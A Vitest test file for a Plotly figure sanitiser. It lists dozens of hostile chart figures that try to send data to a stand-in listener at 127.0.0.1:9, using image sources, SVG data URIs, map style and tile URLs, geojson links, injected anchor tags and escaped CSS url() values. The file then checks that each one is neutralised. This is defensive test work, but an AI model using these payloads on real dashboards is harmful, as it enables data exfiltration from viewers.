import { describe, expect, it } from 'vitest';
import allowList from './plotlyAllowList.json';
import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { inertText, isInlineImage, OFFLINE_MAP_STYLE, sanitiseFigure, TOPOJSON_DIR } from './figureSafety';
import { cssLoads, safeStyle } from './cssTokens';

const EVIL = 'http://127.0.0.1:9/leak?d=secret';
const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';

type Fig = { data: Record<string, unknown>[]; layout?: Record<string, unknown>; config?: Record<string, unknown>; frames?: unknown[] };

/** Every hostile form found in Plotly's schema, each as a figure of its own. */
const HOSTILE: Record<string, Fig> = {
  'layout image URL': { data: [], layout: { images: [{ source: EVIL, x: 0, y: 1 }] } },
  'protocol-relative image': { data: [], layout: { images: [{ source: '//127.0.0.1:9/i.png' }] } },
  'image trace source URL': { data: [{ type: 'image', source: EVIL }] },
  'data: URI that is not an image': { data: [], layout: { images: [{ source: `data:text/html,<img src="${EVIL}">` }] } },
  'SVG data image with a nested reference': {
    data: [],
    layout: { images: [{ source: `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}"/></svg>`)}` }] },
  },
  'SVG data image with CSS url()': { data: [], layout: { images: [{ source: `data:image/svg+xml,${encodeURIComponent(`<svg><style>*{background:url(${EVIL})}</style></svg>`)}` }] } },
  'map style URL': { data: [{ type: 'scattermap', lat: [1], lon: [2] }], layout: { map: { style: EVIL } } },
  'map style object with sprite, glyphs and tiles': {
    data: [{ type: 'scattermap', lat: [1], lon: [2] }],
    layout: { map: { style: { version: 8, sprite: EVIL, glyphs: `${EVIL}/{fontstack}/{range}.pbf`, sources: { s: { type: 'raster', tiles: [`${EVIL}/{z}/{x}/{y}.png`] } }, layers: [{ id: 's', type: 'raster', source: 's' }] } } },
  },
  'map style by a third-party tile name': { data: [], layout: { map: { style: 'open-street-map' } } },
  'second map subplot style': { data: [], layout: { map2: { style: { sources: { t: { tiles: [EVIL] } } } } } },
  'map layer source as a list of tile URLs': { data: [], layout: { map: { layers: [{ sourcetype: 'raster', source: [`${EVIL}/{z}/{x}/{y}`] }] } } },
  'map layer vector source URL': { data: [], layout: { map: { layers: [{ sourcetype: 'vector', source: [EVIL], sourcelayer: 'x' }] } } },
  'map layer image source': { data: [], layout: { map: { layers: [{ sourcetype: 'image', source: EVIL, coordinates: [[0, 0], [1, 0], [1, 1], [0, 1]] }] } } },
  'map layer geojson by URL': { data: [], layout: { map: { layers: [{ sourcetype: 'geojson', source: EVIL }] } } },
  'map layer attribution HTML': { data: [], layout: { map: { layers: [{ source: { type: 'FeatureCollection', features: [] }, sourceattribution: `<img src="${EVIL}">` }] } } },
  'mapbox token and style (no longer drawn by Plotly 4)': { data: [{ type: 'scattermapbox', lat: [1], lon: [1] }], layout: { mapbox: { accesstoken: 'pk.secret', style: EVIL } } },
  'choropleth geojson URL': { data: [{ type: 'choropleth', geojson: EVIL, locations: ['a'], z: [1] }] },
  'choroplethmap geojson URL': { data: [{ type: 'choroplethmap', geojson: EVIL, locations: ['a'], z: [1] }] },
  'scattergeo geojson URL': { data: [{ type: 'scattergeo', geojson: EVIL, locations: ['a'] }] },
  'geojson object with a URL inside': { data: [{ type: 'choropleth', geojson: { type: 'FeatureCollection', features: [], crs: { href: EVIL } }, locations: ['a'], z: [1] }] },
  'config topojsonURL and server URLs': { data: [], config: { topojsonURL: `${EVIL}/`, plotlyServerURL: EVIL, mapboxAccessToken: 'pk.secret', showLink: true, linkText: EVIL, showEditInChartStudio: true, setBackground: EVIL } },
  'link in a title': { data: [], layout: { title: { text: `Sales <a href="${EVIL}">here</a>` } } },
  'link in an old-style string title': { data: [], layout: { title: `<a href="${EVIL}">t</a>` } },
  'link in annotations': { data: [], layout: { annotations: [{ text: `<A HREF='${EVIL}' target="_blank">x</A>`, x: 0, y: 0 }] } },
  'link in text and hovertemplate': { data: [{ type: 'bar', x: ['a'], y: [1], text: [`<a href="${EVIL}">t</a>`], hovertemplate: `<a href="${EVIL}?%{y}">%{x}</a>` }] },
  'texttemplate that builds a link from data': { data: [{ type: 'scatter', x: [1], y: [2], mode: 'text', text: ['a href="http://127.0.0.1:9/?d=rows">go'], texttemplate: '<%{text}</a>' }] },
  'link split across joined values': { data: [{ type: 'bar', x: ['<'], y: [1], customdata: [['a href="http://127.0.0.1:9/x">y']], hovertemplate: '%{x}%{customdata[0]}' }] },
  'unclosed link tag': { data: [{ type: 'bar', x: [`<a href="${EVIL}"`], y: [1] }] },
  'link in a legend title and tick labels': { data: [{ type: 'bar', x: [`<a href="${EVIL}">cat</a>`], y: [1] }], layout: { legend: { title: { text: `<a href="${EVIL}">l</a>` } }, xaxis: { ticktext: [`<a href="${EVIL}">t</a>`], tickvals: [0] } } },
  'link in a table trace cell': { data: [{ type: 'table', header: { values: ['h'] }, cells: { values: [[`<a href="${EVIL}">c</a>`]] } }] },
  'CSS url() in a colour and a font': { data: [{ type: 'bar', x: [1], y: [1], marker: { color: `url(${EVIL})` } }], layout: { font: { family: `x; background: url(${EVIL})` } } },
  'CSS url() in a colour array': { data: [{ type: 'bar', x: [1], y: [1], marker: { color: [`url(${EVIL})`] } }] },
  'unknown attributes and private keys': { data: [{ type: 'bar', x: [1], y: [1], href: EVIL, _private: EVIL, onclick: EVIL }], layout: { href: EVIL, __proto__: { polluted: EVIL } } as Record<string, unknown> },
  'template that carries images and map styles': { data: [], layout: { template: { layout: { images: [{ source: EVIL }], map: { style: EVIL } }, data: { bar: [{ marker: { color: `url(${EVIL})` } }], image: [{ source: EVIL }] } } } },
  'nested template inside a template': { data: [], layout: { template: { layout: { template: { layout: { images: [{ source: EVIL }] } } } } } },
  'frames with hostile layout and data': { data: [{ type: 'image', z: [[[0, 0, 0]]] }], frames: [{ name: 'f', layout: { images: [{ source: EVIL }], map: { style: EVIL } }, data: [{ source: EVIL }] }] },
  'update menu that relayouts to a URL': {
    data: [],
    layout: { updatemenus: [{ buttons: [{ method: 'relayout', label: 'go', args: [{ 'images[0].source': EVIL, 'map.style': EVIL }] }, { method: 'update', args: [{}, { images: [{ source: EVIL }] }], args2: [EVIL] }] }] },
  },
  'slider step that restyles to a URL': { data: [], layout: { sliders: [{ steps: [{ method: 'restyle', args: ['geojson', EVIL], label: 's' }] }] } },
  'unknown trace type': { data: [{ type: 'webpage', src: EVIL }] },
  'scattermap text needs glyphs from a font server': { data: [{ type: 'scattermap', lat: [1], lon: [2], mode: 'markers+text', text: ['x'], cluster: { enabled: true } }] },
  'map layer symbol text needs glyphs': { data: [], layout: { map: { layers: [{ type: 'symbol', source: { type: 'FeatureCollection', features: [] }, symbol: { text: 'x' } }] } } },
  // Issue #31: CSS escapes passed a pattern; styles are now rebuilt from CSS tokens.
  'CSS-escaped url() in an annotation span style': {
    data: [],
    layout: { annotations: [{ text: `<span style="cursor:u\\72l(${EVIL}),auto;background-image:u\\rl(${EVIL})">x</span>`, x: 0, y: 0 }] },
  },
  'entity-encoded url() in a title style': { data: [], layout: { title: { text: `<b style="background:&#117;rl(${EVIL})">t</b>` } } },
  'escaped url() in a hovertemplate, a tick label and a table cell': {
    data: [
      { type: 'bar', x: ['a'], y: [1], hovertemplate: `<span style="background:\\75 rl(${EVIL})">%{x}</span>` },
      { type: 'table', header: { values: [`<i style="cursor:u\\72l(${EVIL}),auto">h</i>`] }, cells: { values: [[`<b style="background-image:u\\rl(${EVIL})">c</b>`]] } },
    ],
    layout: { xaxis: { ticktext: [`<span style="cursor:u\\72l(${EVIL}),auto">t</span>`], tickvals: [0] }, legend: { title: { text: `<sup style="mask:u\\72l(${EVIL})">l</sup>` } } },
  },
  'escaped url() as a bare colour': { data: [{ type: 'bar', x: [1], y: [1], marker: { color: `u\\72l(${EVIL})` } }] },
  'animate button carrying a frame with a map style URL': {
    data: [{ type: 'scattermap', lat: [1], lon: [2] }],
    layout: { map: { style: 'white-bg' }, updatemenus: [{ buttons: [{ method: 'animate', label: 'go', args: [[{ name: 'x', layout: { map: { style: `${EVIL}/style.json?d=ROWS` } } }], { frame: { duration: 0 } }] }] }] },
  },
  'slider step animating to frames with images and a new map': {
    data: [{ type: 'scatter', x: [1], y: [1] }],
    layout: { sliders: [{ steps: [{ method: 'animate', label: 's', args: [{ name: 'f', data: [{ type: 'scattermap', subplot: 'map4', lat: [1], lon: [1] }], layout: { images: [{ source: EVIL }], map4: { style: EVIL } } }] }] }] },
  },
  'restyle button applying a geojson URL and an image source': {
    data: [{ type: 'choropleth', locations: ['a'], z: [1] }],
    layout: { updatemenus: [{ buttons: [{ method: 'restyle', args: ['geojson', EVIL] }, { method: 'restyle', args: [{ geojson: [EVIL], 'marker.line.color': `u\\72l(${EVIL})` }, [0]] }] }] },
  },
  'update button that relayouts an image and a map style': {
    data: [{ type: 'scattermap', lat: [1], lon: [1] }],
    layout: { updatemenus: [{ buttons: [{ method: 'update', args: [{ type: 'image', source: EVIL }, { 'images[0].source': EVIL, 'map.style': EVIL, 'title.text': `<span style="cursor:u\\72l(${EVIL}),auto">t</span>` }] }] }] },
  },
  'relayout button resetting the map style to the default (a third party)': { data: [{ type: 'scattermap', lat: [1], lon: [1] }], layout: { updatemenus: [{ buttons: [{ method: 'relayout', args: ['map.style', null] }] }] } },
  'nested animate inside a carried frame': {
    data: [],
    layout: { updatemenus: [{ buttons: [{ method: 'animate', args: [[{ name: 'a', layout: { updatemenus: [{ buttons: [{ method: 'animate', args: [[{ layout: { images: [{ source: EVIL }] } }]] }] }] } }]] }] }] },
  },
  'map marker symbols fetched as icons': { data: [{ type: 'scattermap', lat: [1, 2], lon: [1, 2], marker: { symbol: ['circle', 'airport'] } }], layout: { map: {} } },
  'map layer symbol icons': { data: [], layout: { map: { layers: [{ type: 'symbol', source: { type: 'FeatureCollection', features: [] }, symbol: { icon: 'marker' } }] } } },
  'layout meta used by a template': { data: [{ type: 'bar', x: [1], y: [1], texttemplate: '%{meta}' }], layout: { meta: [`<a href="${EVIL}">m</a>`] } },
};

/** Data shown as text: a URL there is only text once no link can form (checked below). */
const TEXT = /\.(x|text|customdata)(\[\d+\])+$/;

/** What must never be left: a way to the listener, a link tag, a fetch-capable style. */
function leaks(fig: unknown): string[] {
  const out: string[] = [];
  const walk = (v: unknown, path: string) => {
    if (typeof v === 'string') {
      if (/127\.0\.0\.1|\/\/|pk\.secret/.test(v) && !/^data:image\/png;base64,/.test(v) && !TEXT.test(path)) out.push(`${path}: ${v}`);
      if (/<\s*\/?\s*a(?![^\s>])/i.test(v)) out.push(`${path}: link ${v}`);
      if (/url\s*\(/i.test(v) || cssLoads(v)) out.push(`${path}: css ${v}`);
      for (const m of v.matchAll(/style\s*=\s*("([^"]*)"|'([^']*)')/gi)) {
        const style = m[2] ?? m[3] ?? '';
        if (safeStyle(style) !== style) out.push(`${path}: style ${style}`);
      }
    } else if (Array.isArray(v)) v.forEach((x, i) => walk(x, `${path}[${i}]`));
    else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, `${path}.${k}`);
  };
  walk(fig, 'fig');
  return out;
}

/** Strings Plotly would see after a template joins `a`, `b`…: what a click could follow. */
function joinedLink(fig: Fig): boolean {
  const strings: string[] = [];
  const walk = (v: unknown) => {
    if (typeof v === 'string') strings.push(v);
    else if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') Object.values(v).forEach(walk);
  };
  walk(fig);
  for (const a of strings) for (const b of strings) if (/<a\s[^<>]*href\s*=/i.test(a.replace(/%\{[^}]*\}/g, b) + b)) return true;
  return false;
}

describe('sanitiseFigure against hostile figures', () => {
  for (const [name, fig] of Object.entries(HOSTILE)) {
    it(name, () => {
      const clean = sanitiseFigure(fig);
      expect(leaks(clean)).toEqual([]);
      expect(joinedLink(clean as Fig)).toBe(false);
      // Idempotent: a figure sanitised twice (the worker, then the page) does not drift.
      expect(sanitiseFigure(clean)).toEqual(clean);
    });
  }

  it('keeps map subplots on the style that draws no tiles, and inline layers only', () => {
    const fig = sanitiseFigure({
      data: [],
      layout: {
        map: { style: 'open-street-map', layers: [{ sourcetype: 'raster', source: [EVIL] }, { source: { type: 'FeatureCollection', features: [] }, type: 'fill', color: 'red' }] },
        map3: { zoom: 3 },
      },
    });
    expect(fig.layout).toEqual({
      map: { style: 'white-bg', layers: [{ source: { type: 'FeatureCollection', features: [] }, type: 'fill', color: 'red' }] },
      map3: { zoom: 3, style: 'white-bg' },
    });
  });

  it('holds buttons to the figure rules: URLs out, the offline map style in, animation kept', () => {
    const fig = sanitiseFigure(HOSTILE['update menu that relayouts to a URL'] as Fig);
    expect(fig.layout?.updatemenus).toEqual([{ buttons: [{ method: 'relayout', label: 'go', args: [{ 'map.style': OFFLINE_MAP_STYLE }] }, { method: 'update', args: [{}, { images: [{}] }] }] }]);
    const anim = { data: [], layout: { updatemenus: [{ type: 'buttons', buttons: [{ method: 'animate', label: 'Play', args: [null, { frame: { duration: 500 } }] }] }] } };
    expect(sanitiseFigure(anim)).toEqual(anim);
    const reset = sanitiseFigure(HOSTILE['relayout button resetting the map style to the default (a third party)'] as Fig);
    expect(reset.layout?.updatemenus).toEqual([{ buttons: [{ method: 'relayout', args: ['map.style', OFFLINE_MAP_STYLE] }] }]);
  });

  it('draws every map trace on the offline style, named or not, in frames and buttons too', () => {
    const bare = sanitiseFigure({ data: [{ type: 'scattermap', lat: [1], lon: [2] }, { type: 'densitymap', lat: [1], lon: [2], subplot: 'map2' }] } as Fig);
    expect(bare.layout).toEqual({ map: { style: OFFLINE_MAP_STYLE }, map2: { style: OFFLINE_MAP_STYLE } });
    const framed = sanitiseFigure({ data: [{ type: 'scatter', x: [1], y: [1] }], frames: [{ name: 'f', data: [{ type: 'choroplethmap', subplot: 'map3', locations: ['a'], z: [1] }] }] } as Fig);
    expect(framed.layout?.map3).toEqual({ style: OFFLINE_MAP_STYLE });
    const carried = sanitiseFigure(HOSTILE['slider step animating to frames with images and a new map'] as Fig);
    expect(carried.layout?.map4).toEqual({ style: OFFLINE_MAP_STYLE });
    const symbols = sanitiseFigure(HOSTILE['map marker symbols fetched as icons'] as Fig);
    expect(symbols.data[0]?.marker).toEqual({});
    expect(sanitiseFigure({ data: [{ type: 'scattermap', lat: [1], lon: [1], marker: { symbol: 'circle' } }] }).data[0]?.marker).toEqual({ symbol: 'circle' });
  });

  it('keeps what a restyle/update button changes when it changes it safely', () => {
    const fig = sanitiseFigure(HOSTILE['update button that relayouts an image and a map style'] as Fig);
    expect(fig.layout?.updatemenus).toEqual([{ buttons: [{ method: 'update', args: [{}, { 'map.style': OFFLINE_MAP_STYLE, 'title.text': '<span>t</span>' }] }] }]);
  });

  it('keeps the link text and shows a lone < as text', () => {
    expect(inertText(`Sales <a href="${EVIL}">here</a>`)).toBe('Sales here');
    expect(inertText('<%{text}</a>')).toBe('&lt;%{text}');
    expect(inertText('a<')).toBe('a&lt;');
    expect(inertText('x <b>bold</b><br>y<extra></extra>')).toBe('x <b>bold</b><br>y<extra></extra>');
    expect(inertText('1 < 2 and 3 > 2')).toBe('1 < 2 and 3 > 2');
  });

  it('accepts only inline images that reference nothing', () => {
    expect(isInlineImage(PIXEL)).toBe(true);
    expect(isInlineImage(`data:image/svg+xml;base64,${btoa('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>')}`)).toBe(true);
    expect(isInlineImage(`data:image/svg+xml,${encodeURIComponent('<svg><use xlink:href="http://x/#a"/></svg>')}`)).toBe(false);
    expect(isInlineImage('data:image/png,notbase64<>')).toBe(false);
    expect(isInlineImage('https://example.com/x.png')).toBe(false);
  });
});

/** What plotly.py writes for `px.bar(…)`: a template, `<br>` hover templates, base64 arrays. */
const PX_TEMPLATE = {
  data: {
    bar: [{ error_x: { color: '#2a3f5f' }, marker: { line: { color: '#E5ECF6', width: 0.5 }, pattern: { fillmode: 'overlay', size: 10, solidity: 0.2 } }, type: 'bar' }],
    scatter: [{ fillpattern: { fillmode: 'overlay', size: 10, solidity: 0.2 }, type: 'scatter' }],
    choropleth: [{ colorbar: { outlinewidth: 0, ticks: '' }, type: 'choropleth' }],
  },
  layout: {
    colorway: ['#636efa', '#EF553B'],
    font: { color: '#2a3f5f' },
    geo: { bgcolor: 'white', lakecolor: 'white', landcolor: '#E5ECF6', showlakes: true, showland: true, subunitcolor: 'white' },
    hoverlabel: { align: 'left' },
    hovermode: 'closest',
    mapbox: { style: 'light' },
    paper_bgcolor: 'white',
    plot_bgcolor: '#E5ECF6',
    xaxis: { automargin: true, gridcolor: 'white', title: { standoff: 15 } },
  },
};

const ORDINARY: Record<string, Fig> = {
  'px bar with template and base64 arrays': {
    data: [
      {
        alignmentgroup: 'True',
        hovertemplate: 'species=%{x}<br>body_mass_g=%{y}<extra></extra>',
        legendgroup: '',
        marker: { color: '#636efa', pattern: { shape: '' } },
        name: '',
        offsetgroup: '',
        orientation: 'v',
        showlegend: false,
        textposition: 'auto',
        type: 'bar',
        x: ['Adelie', 'Chinstrap', 'Gentoo'],
        xaxis: 'x',
        y: { dtype: 'f8', bdata: 'AAAAAAAA8D8AAAAAAAAAQAAAAAAAAAhA' },
        yaxis: 'y',
      },
    ],
    layout: {
      template: PX_TEMPLATE,
      xaxis: { anchor: 'y', domain: [0, 1], title: { text: 'species' } },
      yaxis: { anchor: 'x', domain: [0, 1], title: { text: 'body_mass_g' } },
      legend: { tracegroupgap: 0 },
      barmode: 'relative',
      margin: { t: 60 },
    },
  },
  'line with markers and two y axes': {
    data: [
      { type: 'scatter', mode: 'lines+markers', x: ['2024-01-01', '2024-02-01'], y: [1, 2], name: 'a', line: { dash: 'dot', width: 2 } },
      { type: 'scatter', mode: 'lines', x: ['2024-01-01', '2024-02-01'], y: [3, 1], yaxis: 'y2', name: 'b < c' },
    ],
    layout: { yaxis2: { overlaying: 'y', side: 'right' }, title: { text: 'Rain <b>and</b> sun<br><sup>2024</sup>' }, showlegend: true },
  },
  'scatter with colour scale and custom hover': {
    data: [{ type: 'scatter', mode: 'markers', x: [1, 2], y: [3, 4], customdata: [['Adelie', 3], ['Gentoo', 4]], hovertemplate: '%{customdata[0]}: %{y:.1f}<extra></extra>', marker: { color: [1, 2], colorscale: 'Viridis', showscale: true, size: [6, 9], symbol: 'diamond' } }],
    layout: { coloraxis: { colorbar: { title: { text: 'n' } } } },
  },
  histogram: { data: [{ type: 'histogram', x: [1, 2, 2, 3], nbinsx: 10, histnorm: 'percent', opacity: 0.6 }], layout: { barmode: 'overlay', bargap: 0.1 } },
  box: { data: [{ type: 'box', y: [1, 2, 3, 10], name: 'mass', boxpoints: 'outliers', boxmean: true }] },
  pie: { data: [{ type: 'pie', labels: ['a', 'b'], values: [1, 2], hole: 0.4, textinfo: 'label+percent', texttemplate: '%{label}: %{percent}' }] },
  heatmap: { data: [{ type: 'heatmap', x: ['a', 'b'], y: ['c', 'd'], z: [[1, null], [3, 4]], colorscale: [[0, 'white'], [1, 'rgb(0,0,255)']], texttemplate: '%{z}' }] },
  'violin and facets': {
    data: [
      { type: 'violin', y: [1, 2, 3], box: { visible: true }, meanline: { visible: true }, xaxis: 'x', yaxis: 'y' },
      { type: 'violin', y: [2, 3, 4], xaxis: 'x2', yaxis: 'y2' },
    ],
    layout: { xaxis2: { anchor: 'y2', domain: [0.55, 1] }, annotations: [{ text: 'island=Biscoe', showarrow: false, x: 0.2, y: 1, xref: 'paper', yref: 'paper', font: {} }] },
  },
  choropleth: {
    data: [{ type: 'choropleth', locations: ['USA', 'FRA'], z: [1, 2], locationmode: 'ISO-3', colorscale: 'Blues', hovertemplate: '%{location}: %{z}<extra></extra>' }],
    layout: { template: PX_TEMPLATE, geo: { scope: 'world', projection: { type: 'natural earth' }, showframe: false, resolution: 110 } },
  },
  'choropleth with inline GeoJSON': {
    data: [{ type: 'choropleth', geojson: { type: 'FeatureCollection', features: [{ type: 'Feature', id: 'a', properties: { name: 'A' }, geometry: { type: 'Polygon', coordinates: [[[0, 0], [1, 0], [1, 1], [0, 0]]] } }] }, locations: ['a'], z: [1], featureidkey: 'id' }],
    layout: { geo: { fitbounds: 'locations', visible: false } },
  },
  scattergeo: { data: [{ type: 'scattergeo', lat: [48.8, 40.7], lon: [2.3, -74], mode: 'markers', text: ['Paris', 'New York'], marker: { size: 8 } }], layout: { geo: { scope: 'europe', showcountries: true } } },
  'map on the offline style': { data: [{ type: 'scattermap', lat: [48.8], lon: [2.3], mode: 'markers', marker: { size: 12, color: 'red' } }], layout: { map: { style: 'white-bg', center: { lat: 48.8, lon: 2.3 }, zoom: 4 } } },
  'image from inline data': { data: [{ type: 'image', source: PIXEL }], layout: { images: [{ source: PIXEL, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.2, sizey: 0.2 }] } },
  'styled title, annotation and hover with colours and bold': {
    data: [{ type: 'bar', x: ['a'], y: [1], hovertemplate: '<span style="color:#1f77b4">%{x}</span>: <b>%{y}</b><extra></extra>' }],
    layout: {
      title: { text: '<span style="color:#d62728">Red</span> <b>bold</b> <i style="font-size:12px">small</i>' },
      annotations: [{ text: '<span style="color:rgb(0, 128, 0);font-weight:bold">up</span> <u>3%</u>', x: 0, y: 1, showarrow: false }],
    },
  },
  'update menu with restyle, relayout and update buttons': {
    data: [
      { type: 'scatter', x: [1, 2], y: [1, 2], name: 'a' },
      { type: 'bar', x: [1, 2], y: [2, 1], name: 'b' },
    ],
    layout: {
      updatemenus: [
        {
          buttons: [
            { method: 'restyle', label: 'only a', args: ['visible', [true, false]] },
            { method: 'restyle', label: 'red', args: [{ 'marker.color': 'red' }, [0]], args2: [{ 'marker.color': 'blue' }, [0]] },
            { method: 'relayout', label: 'log', args: [{ 'yaxis.type': 'log', 'xaxis.range[1]': 5 }] },
            { method: 'update', label: 'both', args: [{ visible: [true, true], x: [[1, 2, 3]] }, { 'title.text': '<b>Both</b>', 'annotations[1].text': 'second' }] },
            { method: 'skip', label: 'nothing' },
          ],
        },
      ],
    },
  },
  'animation played by a button carrying its frames': {
    data: [{ type: 'scatter', x: [1, 2], y: [1, 2] }],
    layout: { updatemenus: [{ type: 'buttons', buttons: [{ method: 'animate', label: 'Play', args: [[{ name: 'f2', data: [{ y: [2, 1] }], layout: { title: { text: 'two' } } }, 'f3'], { mode: 'immediate', frame: { duration: 300, redraw: false }, transition: { duration: 200, easing: 'cubic-in-out' } }] }] }] },
    frames: [{ name: 'f3', data: [{ y: [3, 3] }] }],
  },
  'animation frames': {
    data: [{ type: 'bar', x: ['a'], y: [1] }],
    layout: { sliders: [{ steps: [{ method: 'animate', args: [['f1'], { mode: 'immediate' }], label: '1' }] }] },
    frames: [{ name: 'f1', data: [{ y: [2] }], layout: { title: { text: 'one' } } }],
    config: { responsive: true, displayModeBar: false },
  },
};

describe('sanitiseFigure keeps ordinary charts as they were', () => {
  for (const [name, fig] of Object.entries(ORDINARY)) {
    it(name, () => {
      const expected = { layout: {}, ...structuredClone(fig) };
      // plotly.py's template still names mapbox, which Plotly 4 no longer draws.
      const template = (expected.layout?.template as typeof PX_TEMPLATE | undefined)?.layout as Record<string, unknown> | undefined;
      if (template) delete template.mapbox;
      expect(sanitiseFigure(fig)).toEqual(expected);
    });
  }
});

describe('geo charts', () => {
  // Plotly reads `<scope>_<resolution>m.json` (scope spaces as dashes) from topojsonURL.
  it('find every world map Plotly may ask for in the build', () => {
    const dir = join(dirname(fileURLToPath(import.meta.url)), '..', 'public', TOPOJSON_DIR);
    const scopes = ['africa', 'antarctica', 'asia', 'europe', 'north america', 'oceania', 'south america', 'usa', 'world'];
    for (const scope of scopes) {
      for (const resolution of [110, 50]) {
        const geo = sanitiseFigure({ data: [], layout: { geo: { scope, resolution } } }).layout?.geo as { scope: string; resolution: number };
        const file = `${geo.scope.replace(/ /g, '-')}_${geo.resolution}m.json`;
        expect(existsSync(join(dir, file)), file).toBe(true);
      }
    }
  });
});

describe('the allow-list', () => {
  it('comes from the Plotly the app ships', async () => {
    const pkg = (await import('plotly.js-dist-min/package.json')) as { version: string };
    expect(allowList.plotly).toBe(pkg.version);
  });

  // An attribute of type `any` can hold an object, an array or a URL: each one Plotly has was
  // reviewed for what it fetches (source, geojson, style have rules above). A new one after an
  // upgrade fails here until someone looks at it.
  it('has no `any` attribute that was not reviewed', () => {
    const reviewed = new Set(
      'a0 ax ay b0 barcornerradius base clipmax clipmin computed coordinates cornerradius datarevision dtick editrevision end geojson hovertemplatefallback include labelalias level maxallowed meta minallowed opacityscale r0 selectedpoints selectionrevision size source start style template texttemplatefallback theta0 tick0 uirevision value x x0 x1 xanchor xclick xperiod xperiod0 y y0 y1 yanchor yclick yperiod yperiod0 z'.split(' '),
    );
    const found = new Set<string>();
    for (const node of allowList.nodes as Record<string, unknown>[]) for (const [k, v] of Object.entries(node)) if (typeof v === 'string' && v.startsWith('any')) found.add(k);
    expect([...found].filter((k) => !reviewed.has(k))).toEqual([]);
  });
});
